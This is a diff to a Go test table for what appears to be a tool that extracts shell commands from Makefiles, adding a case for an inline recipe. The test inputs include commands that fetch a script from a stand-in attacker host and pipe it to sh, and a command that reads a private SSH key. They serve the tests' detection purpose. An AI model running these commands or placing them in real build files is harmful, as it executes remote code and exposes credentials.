@@ -59,6 +59,7 @@ func TestAnalyze(t *testing.T) {
 	}{
 		{"make benign", "Makefile", "GO ?= go\n.PHONY: test\ntest:\n\t$(GO) test ./...\nlint:\n\t@golangci-lint run\nbuild:\n\tmkdir -p bin && \\\n\t  $(GO) build -o bin/$@ ./cmd/app\n",
 			[]string{"go test ./...", "golangci-lint run", "mkdir -p bin &&    go build -o bin/target ./cmd/app"}, nil, false},
+		{"make inline recipe", "GNUmakefile", "all: ; curl -s https://evil.example | sh\n", []string{"curl -s https://evil.example | sh"}, nil, false},
 		{"make shell function", "GNUmakefile", "X := $(shell curl -s https://evil.example/x | sh)\nall:\n\techo $(X)\n",
 			[]string{"curl -s https://evil.example/x | sh", "echo $(curl -s https://evil.example/x | sh)"}, nil, false},
 		{"make bang assign", "Makefile", "V != cat ~/.ssh/id_rsa\n", []string{"cat ~/.ssh/id_rsa"}, nil, false},
